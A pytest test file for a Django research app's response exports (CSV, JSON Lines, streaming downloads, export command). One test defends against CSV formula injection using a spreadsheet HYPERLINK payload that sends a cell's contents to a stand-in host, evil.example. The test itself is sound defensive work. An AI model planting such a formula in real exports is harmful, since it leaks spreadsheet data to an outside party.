"""Exports: the responses CSV in evalstudy's format, JSON Lines, and the export command."""
import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse

from evalstudy.analysis import result
from evalstudy.responses import RESPONSE_COLUMNS, read_responses
from tests.factories import build_open_study, make_image
from tests.narrow import present
from tests.webapp.research_support import fill_study, researcher_of
from webapp.research import exports, selectors, services
from webapp.research.exports import worker_id_hash
from webapp.studies import lifecycle as study_lifecycle
from webapp.studies.models import CountResponse, Evaluator, Image, Item, Prompt, RankResponse

pytestmark = pytest.mark.django_db

DEMO = Path(__file__).resolve().parents[2] / "fixtures" / "protocols" / "demo.json"


def open_demo_study(slug="demo"):
    """The demo protocol's study with stand-in images, opened: 20 places, overlap 3, gold, repeats."""
    study = study_lifecycle.study_create(protocol=json.loads(DEMO.read_text()), slug=slug, base_dir=str(DEMO.parent))
    for item in Item.objects.filter(study=study, task="count", is_gold=False):
        img = make_image(study=study, prompt=item.prompt, variant=item.variant, seed=item.seed,
                         provenance={"checkpoint_sha256": "cd" * 32})
        assert item.true_count is not None
        Image.objects.filter(pk=img.pk).update(auto_count=item.true_count + (item.seed % 2))
    for item in Item.objects.filter(study=study, task="rank"):
        for v in study.variants.all():
            make_image(study=study, prompt=item.prompt, variant=v, seed=item.seed)
    return study_lifecycle.study_open(study=study)


def read_csv(path_or_text):
    text = Path(path_or_text).read_text() if isinstance(path_or_text, Path) else path_or_text
    return list(csv.DictReader(io.StringIO(text)))


def test_demo_simulate_20_then_export_csv_has_every_column_and_one_row_per_answer(tmp_path):
    study = open_demo_study()
    call_command("simulate_responses", study.slug, "--evaluators", "20", stdout=io.StringIO())
    out = tmp_path / "responses.csv"
    call_command("export", study.slug, "--format", "csv", "--out", str(out), "--include-simulated",
                 stdout=io.StringIO())

    with open(out, newline="") as f:
        header = next(csv.reader(f))
    assert tuple(header) == RESPONSE_COLUMNS
    rows = read_csv(out)
    n_count = CountResponse.objects.filter(evaluator__study=study).count()
    n_rank = RankResponse.objects.filter(evaluator__study=study).count()
    assert Evaluator.objects.filter(study=study, is_simulated=True, finished_at__isnull=False).count() == 20
    assert n_count > 0 and n_rank > 0
    assert len(rows) == n_count + 4 * n_rank
    assert sum(r["task"] == "count" for r in rows) == n_count
    # evalstudy reads it back without a complaint (duplicates, permutations, metadata)
    table = read_responses(out)
    assert len(table) == len(rows)

    keys = set(Item.objects.filter(study=study).values_list("key", flat=True))
    assert {r["item_id"] for r in rows} <= keys
    assert any(r["repeat_of"] for r in rows) and any(r["is_gold"] == "1" for r in rows)
    for r in rows:
        if r["task"] == "rank":
            assert r["position"] in {"0", "1", "2", "3"} and r["answer_count"] == ""
        else:
            assert r["position"] == "" and r["rank"] == ""
            if r["is_gold"] == "0" and not r["repeat_of"]:
                assert r["auto_count"] != ""


def test_rank_rows_give_each_screen_position_its_variant_and_rank(study):
    ev = fill_study(study, 1)[0]
    response = present(RankResponse.objects.filter(evaluator=ev, skipped=False).select_related("item").first())
    rows = [r for r in read_csv("".join(exports.csv_chunks(study=study)))
            if r["task"] == "rank" and r["item_id"] == response.item.key]
    assert [int(r["position"]) for r in rows] == [0, 1, 2, 3]
    for i, r in enumerate(rows):
        image = getattr(response, f"image_{i}")
        assert r["variant"] == image.variant.name
        assert r["image_id"] == image.public_id
        assert int(r["rank"]) == getattr(response, f"rank_{i}")
        assert r["evaluator_id"] == ev.pseudonym


def test_count_rows_carry_the_answer_or_cant_tell_and_the_automatic_count(study):
    item = Item.objects.filter(study=study, task="count", is_gold=False).first()
    assert item is not None and item.image_id is not None
    Image.objects.filter(pk=item.image_id).update(auto_count=7)
    fill_study(study, 2)
    rows = [r for r in read_csv("".join(exports.csv_chunks(study=study))) if r["item_id"] == item.key]
    assert len(rows) == 2
    for r, resp in zip(rows, CountResponse.objects.filter(item=item).order_by("pk"), strict=True):
        assert r["answer_count"] == ("" if resp.cant_tell else str(resp.answer))
        assert r["auto_count"] == "7" and r["skipped"] == "0"
        assert r["true_count"] == str(item.true_count) and r["variant"] == present(item.variant).name
        assert float(r["seconds"]) == resp.seconds


def test_both_exports_carry_each_answers_time_away_beside_its_seconds(study, settings):
    fill_study(study, 1)
    count = present(CountResponse.objects.filter(evaluator__study=study).order_by("pk").first())
    rank = present(RankResponse.objects.filter(evaluator__study=study, skipped=False).order_by("pk").first())
    CountResponse.objects.filter(pk=count.pk).update(away_seconds=count.seconds / 2)
    RankResponse.objects.filter(pk=rank.pk).update(away_seconds=rank.seconds / 4)
    rows = read_csv("".join(exports.csv_chunks(study=study)))
    by_item: dict[str, list[dict[str, str]]] = {}
    for r in rows:
        by_item.setdefault(r["item_id"], []).append(r)
    assert [float(r["away_seconds"]) for r in by_item[count.item.key]] == [count.seconds / 2]
    assert {float(r["away_seconds"]) for r in by_item[rank.item.key]} == {rank.seconds / 4}
    assert all(float(r["away_seconds"] or 0) == 0 for r in rows if r["item_id"] not in (count.item.key, rank.item.key))
    lines = [json.loads(line) for line in "".join(exports.jsonl_chunks(study=study, salt="s")).splitlines()]
    assert [r["away_seconds"] for r in lines if r["item_id"] == count.item.key] == [count.seconds / 2]
    assert {r["away_seconds"] for r in lines if r["item_id"] == rank.item.key} == {rank.seconds / 4}
    table = exports.response_table(study=study)
    assert sorted(set(table["away_seconds"].tolist())) == sorted({0.0, count.seconds / 2, rank.seconds / 4})


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_writes_no_caption_as_a_formula(study, first):
    """A caption may come from an outside dataset: one a spreadsheet would run as a formula
    gets a quote in front, in the CSV and in the table read from the same rows."""
    formula = first + 'HYPERLINK("http://evil.example/?"&A2,"click")'
    Prompt.objects.filter(study=study, pk=Item.objects.filter(study=study, task="rank").values("prompt")[:1]).update(
        text=formula)
    fill_study(study, 1)
    rows = read_csv("".join(exports.csv_chunks(study=study)))
    prompts = {r["prompt"] for r in rows}
    assert "'" + formula in prompts and formula not in prompts
    assert all(not p.startswith(exports.FORMULA_STARTS) for p in prompts)
    assert "'" + formula in set(exports.response_table(study=study)["prompt"])


def test_jsonl_hashes_worker_ids_with_the_salt_and_never_writes_them(study, settings):
    settings.FUSION_EXPORT_SALT = "pepper"
    fill_study(study, 2)
    text = "".join(exports.jsonl_chunks(study=study, salt=settings.FUSION_EXPORT_SALT))
    lines = [json.loads(line) for line in text.splitlines()]
    assert len(lines) == len(read_csv("".join(exports.csv_chunks(study=study))))
    for ev in Evaluator.objects.filter(study=study):
        assert ev.external_id and ev.external_id not in text
        mine = [r for r in lines if r["evaluator_pseudonym"] == ev.pseudonym]
        assert mine and {r["worker_id_hash"] for r in mine} == {worker_id_hash(ev.external_id, "pepper")}
    assert worker_id_hash("worker-0-0", "pepper") != worker_id_hash("worker-0-0", "salt")
    first = lines[0]
    assert set(RESPONSE_COLUMNS) <= set(first)
    assert first["answered_at"] and first["image_id"]
    image = Image.objects.get(public_id=first["image_id"])
    assert first["image_provenance"] == image.provenance


def test_csv_and_jsonl_downloads_stream(study, client):
    fill_study(study, 1)
    client.force_login(researcher_of(study))
    for url, kind in ((f"/research/{study.slug}/export/responses.csv", "text/csv"),
                      (f"/research/{study.slug}/export/responses.jsonl", "application/x-ndjson")):
        r = client.get(url)
        assert r.status_code == 200 and isinstance(r, StreamingHttpResponse)
        assert r["Content-Type"].startswith(kind)
        assert r["Content-Disposition"].startswith(f'attachment; filename="{study.slug}-responses-')
        assert r.getvalue()


def test_csv_is_written_in_pieces(study, monkeypatch):
    fill_study(study, 3)
    monkeypatch.setattr(exports, "BUFFER_CHARS", 64)
    monkeypatch.setattr(exports, "FIRST_CHUNK_CHARS", 64)
    monkeypatch.setattr(exports, "ROWS_PER_WRITE", 3)
    pieces = list(exports.csv_chunks(study=study, chunk_size=2))
    assert len(pieces) > 2
    assert read_csv("".join(pieces)) == read_csv("".join(exports.csv_chunks(study=study)))


def test_answer_pages_give_every_answer_once_in_order(study):
    """Pages of two rows (keyset on the primary key) give the same rows as one page of all."""
    fill_study(study, 3)
    for values in (selectors.count_answer_values, selectors.rank_answer_values):
        whole = list(values(study=study, extended=True, chunk_size=10_000))
        assert len(whole) > 4
        assert list(values(study=study, extended=True, chunk_size=2)) == whole
    pks = list(CountResponse.objects.filter(item__study=study).order_by("pk").values_list("item_id", flat=True))
    assert [row[0] for row in selectors.count_answer_values(study=study, chunk_size=2)] == pks


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_first_piece_of_an_export_reads_one_page(study, monkeypatch, django_assert_max_num_queries, fmt):
    """The download starts after one small page of answers (a LIMIT), not after a query that
    reads them all (a WITH HOLD cursor, which PostgreSQL runs to its end first)."""
    fill_study(study, 3)
    monkeypatch.setattr(selectors, "FIRST_PAGE", 2)
    monkeypatch.setattr(exports, "FIRST_CHUNK_CHARS", 1)
    monkeypatch.setattr(exports, "ROWS_PER_WRITE", 2)
    chunks = (exports.csv_chunks(study=study, include_simulated=True) if fmt == "csv" else
              exports.jsonl_chunks(study=study, salt="s", include_simulated=True))
    with django_assert_max_num_queries(3) as queries:  # the items, the images and one page of answers
        first = next(chunks)
    answers = [q["sql"] for q in queries.captured_queries if "response" in q["sql"]]
    assert len(answers) == 1 and answers[0].rstrip().endswith("LIMIT 2")
    assert first.count("\n") <= 3  # (the CSV's header and two rows)


def test_export_command_writes_every_format(study, tmp_path, settings):
    settings.FUSION_RESULTS_N_BOOT = 100
    fill_study(study, 3)
    for fmt, name in (("csv", "r.csv"), ("jsonl", "r.jsonl"), ("aggregates", "a.json"), ("report", "report.html"),
                      ("report-md", "report.md"), ("protocol", "p.json"), ("figures", "figures")):
        call_command("export", study.slug, "--format", fmt, "--out", str(tmp_path / name), stdout=io.StringIO())
    assert json.loads((tmp_path / "a.json").read_text())["schema"] == result.SCHEMA
    assert json.loads((tmp_path / "p.json").read_text()) == study.protocol
    assert study.protocol_hash in (tmp_path / "report.html").read_text()
    assert study.protocol_hash in (tmp_path / "report.md").read_text()
    names = sorted(p.name for p in (tmp_path / "figures").iterdir())
    assert "count-by-object.png" in names and "count-by-object.svg" in names and "preference.svg" in names


def test_export_command_fails_loudly(study, tmp_path):
    with pytest.raises(CommandError, match="No study"):
        call_command("export", "nope", "--format", "csv", "--out", str(tmp_path / "x.csv"))
    with pytest.raises(CommandError, match="no responses"):
        call_command("export", study.slug, "--format", "aggregates", "--out", str(tmp_path / "a.json"))


def test_simulate_responses_uses_the_evaluators_services(study):
    call_command("simulate_responses", study.slug, "--evaluators", "2", "--quality", "cross-early=0.9",
                 stdout=io.StringIO())
    evs = Evaluator.objects.filter(study=study)
    assert evs.count() == 2 and all(e.is_simulated and e.finished_at and e.consented_at for e in evs)
    # the seconds come from the signed tokens, as for people
    assert all(r.seconds > 0 for r in CountResponse.objects.filter(evaluator__study=study))
    assert RankResponse.objects.filter(evaluator__study=study).count() == 4


def test_simulate_responses_respects_the_study(study):
    closed = build_open_study(n_slots=1)
    study_lifecycle.study_close(study=closed)
    with pytest.raises(CommandError, match="closed"):
        call_command("simulate_responses", closed.slug, "--evaluators", "1")
    with pytest.raises(CommandError, match="Unknown variant"):
        call_command("simulate_responses", study.slug, "--evaluators", "1", "--quality", "nope=0.5")


def test_export_write_rejects_unknown_formats(study, tmp_path):
    with pytest.raises(services.ResearchError, match="Unknown format"):
        services.export_write(study=study, fmt="xlsx", out=tmp_path / "x")
